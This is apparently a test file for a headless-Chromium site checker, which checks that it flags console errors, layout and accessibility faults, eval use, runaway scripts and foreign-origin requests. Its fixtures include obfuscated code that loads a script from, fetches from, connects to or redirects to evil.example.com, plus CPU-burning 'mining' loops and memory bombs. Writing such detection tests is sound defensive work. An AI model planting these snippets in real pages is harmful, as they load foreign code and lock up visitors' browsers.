import { execFileSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { imageSize } from 'image-size';
import { until } from '#libs/testing';
import { chromium, createChecks, pageWith, running, shown, siteOf } from './checks.stage.js';
import { SiteChecker } from './site-checker.service.js';

const inChromium = chromium ? describe : describe.skip;

/** Processes of this spec that still run; one that only waits for its parent to look is none. */
const processesWith = (text: string): string[] =>
  execFileSync('ps', ['ax', '-ww', '-o', 'args'], { encoding: 'utf8' })
    .split('\n')
    .filter((line) => line.includes(text) && !line.includes('<defunct>'));

inChromium(`${SiteChecker.name} with a browser`, () => {
  const { check, close } = createChecks({ chromium });
  afterAll(close);

  it('passes a good site and shows it', async () => {
    const { passed, problems, screenshot } = await check(siteOf(), true);
    expect(shown(problems)).toEqual([]);
    expect(passed).toBe(true);
    expect(screenshot).toMatchObject({ mimeType: 'image/png', width: 720, height: 1600 });
    expect(imageSize(screenshot!.data)).toMatchObject({ type: 'png', width: 720, height: 1600 });
    expect(screenshot!.data.length).toBeLessThan(1_000_000);
  });

  it('takes no picture that nobody asked for', async () => {
    expect((await check(siteOf())).screenshot).toBeUndefined();
  });

  it('keeps a picture of noise below 1 MB', async () => {
    const draw = `const c = document.createElement('canvas'); c.width = 720; c.height = 1600; c.className = 'noise';
      const g = c.getContext('2d'); const d = g.createImageData(720, 1600);
      for (let i = 0; i < d.data.length; i += 1) d.data[i] = i % 4 === 3 ? 255 : Math.random() * 256;
      g.putImageData(d, 0, 0); document.body.append(c);`;
    const page = pageWith('<script src="app.js"></script>', '<link rel="stylesheet" href="noise.css" />');
    const files = Object.entries({
      'index.html': page,
      'app.js': draw,
      'noise.css': '.noise{width:100%}h1{display:none}',
    });
    const { screenshot } = await check(
      files.map(([path, text]) => ({ path, content: Buffer.from(text) })),
      true,
    );
    expect(screenshot!.data.length).toBeLessThan(1_000_000);
    expect(imageSize(screenshot!.data).width).toBe(screenshot!.width);
  });

  it.each<[string, ReturnType<typeof siteOf>, RegExp]>([
    ['an exception', running('null.x;'), /^high console index.html: Uncaught: Cannot read/],
    [
      'a promise that nobody caught',
      running('Promise.reject(new Error("late"));'),
      /^high console index.html: Uncaught: late/,
    ],
    ['an error in the console', running('console.error("Oh no");'), /^medium console index.html: .*Oh no/],
    ['an alert', running('alert("hi");'), /^medium console index.html: A dialog \(alert\)/],
    [
      'a page that is too wide',
      siteOf({ 'styles.css': '.hero { width: 900px }' }),
      /^medium layout index.html: .*360 px.*9\d\d px.*header\.hero/,
    ],
    [
      'a page that shows nothing',
      running('document.body.replaceChildren();'),
      /^high layout index.html: The page shows nothing/,
    ],
    [
      'text that cannot be told from its background',
      siteOf({ 'styles.css': 'p { color: #ddd; background: #fff }' }),
      /^medium accessibility index.html: .*color-contrast/,
    ],
    [
      'a control without a name that a script makes',
      running('document.querySelector("main").append(document.createElement("button"));'),
      /^high accessibility index.html: .*button-name/,
    ],
    [
      'a file that is asked for in vain at an address put together',
      running('fetch(["no", "json"].join("."));'),
      /^high links index.html: .*no\.json/,
    ],
    [
      'code that is made of texts',
      running('const f = Function; f("1")();'),
      /^high javascript index.html: The policy.*unsafe-eval/,
    ],
    [
      'a script that a script writes into the page',
      running('const s = document.createElement("script"); s.textContent = "1"; document.body.append(s);'),
      /^high javascript index.html: A script inside/,
    ],
    [
      'data from an address put together',
      running('fetch(["https:", "", "evil.example.com"].join("/")).catch(() => 0);'),
      /^high foreign-origin index.html: .*evil\.example\.com/,
    ],
    [
      'a script from an address put together',
      running(
        'const s = document.createElement("script"); s["s" + "rc"] = "https://evil.example.com/x.js"; document.body.append(s);',
      ),
      /^high foreign-origin index.html: .*evil\.example\.com/,
    ],
    [
      'a connection to an address put together',
      running('try { new WebSocket(["wss:", "", "evil.example.com"].join("/")); } catch {}'),
      /^high foreign-origin index.html: .*evil\.example\.com/,
    ],
    [
      'a page that goes elsewhere by itself',
      running('location.href = "https://evil.example.com/";'),
      /^high foreign-origin index.html: .*evil\.example\.com/,
    ],
  ])('finds %s', async (_name, files, expected) => {
    const { passed, problems } = await check(files);
    expect(shown(problems)).toContainEqual(expect.stringMatching(expected));
    expect(passed).toBe(false);
  });

  it.each<[string, ReturnType<typeof siteOf>, RegExp]>([
    [
      'mining that has no name',
      running(
        'setInterval(() => { const end = Date.now() + 95; let n = 0; while (Date.now() < end) n = (n * 31 + 7) % 65537; }, 1);',
      ),
      /^high javascript index.html: Scripts of the page take \d+ % of a processor/,
    ],
    ['a loop without end', running('while (true) {}'), /^high console index.html: The page does not answer/],
    [
      'a loop without end that begins later',
      running('setTimeout(() => { for (;;); }, 300);'),
      /^high console index.html: The page does not answer/,
    ],
    [
      'alerts without end',
      running('while (true) alert("again");'),
      /^high console index.html: The page does not answer/,
    ],
    [
      'a page that eats the memory',
      running('const all = []; for (;;) all.push(new Array(1e6).fill(all.length));'),
      /^high console index.html: The page (crashed|does not answer)/,
    ],
    [
      'a page that grows to a huge tree',
      running(
        'const m = document.querySelector("main"); for (let n = 0; n < 60000; n++) m.append(document.createElement("i"));',
      ),
      /^medium size index.html: .*elements when it runs/,
    ],
  ])('ends %s, and checks the next site', async (_name, files, expected) => {
    const startedAt = performance.now();
    const { passed, problems } = await check(files);
    expect(shown(problems)).toContainEqual(expect.stringMatching(expected));
    expect(passed).toBe(false);
    expect(performance.now() - startedAt).toBeLessThan(45_000);
    expect(shown((await check(running('document.title += 1;'))).problems)).toEqual([]);
  });

  it('is not flooded by a page that complains without end', async () => {
    const { problems } = await check(
      running('setInterval(() => { for (let n = 0; n < 500; n++) console.error(n); }, 1);'),
    );
    expect(problems.length).toBeGreaterThan(5);
    expect(problems.length).toBeLessThanOrEqual(100);
  });

  it('lets a lively page live', async () => {
    const lively =
      'let n = 0; const step = () => { document.querySelector("h1").dataset.n = ++n; requestAnimationFrame(step); }; step();';
    expect(shown((await check(running(lively))).problems)).toEqual([]);
  });
});

inChromium('a browser that is needed no more', () => {
  const foldersOf = () => readdirSync(tmpdir()).filter((name) => name.startsWith('parley-check-'));

  it.each([
    ['after a while without work', 200, (files = siteOf()) => files],
    ['with the service', 60_000, (files = siteOf()) => files],
    ['with a page that never ends', 60_000, () => running('while (true) {}')],
  ])('ends %s, and leaves nothing behind', async (_name, idleMs, files) => {
    const before = new Set(foldersOf());
    const { check, close } = createChecks({ chromium, idleMs, timeoutMs: 4_000 });
    const checked = check(files());
    await until(() => foldersOf().filter((name) => !before.has(name)).length === 2);
    const folders = foldersOf().filter((name) => !before.has(name));
    await checked;
    if (idleMs > 1_000) await close();
    await until(() => folders.every((name) => !foldersOf().includes(name) && processesWith(name).length === 0));
  });
});

describe('a browser that is not there', () => {
  it.each(['/no/such/chromium', '/bin/false'])('%s is a note, and everything else is checked', async (path) => {
    const { check, close } = createChecks({ chromium: path });
    const { notes, passed } = await check(siteOf());
    const { problems } = await check(siteOf({ 'app.js': 'const = 1' }));
    await close();
    expect(notes).toEqual([expect.stringMatching(/Chromium does not start/)]);
    expect(passed).toBe(true);
    expect(problems).toHaveLength(1);
  });
});
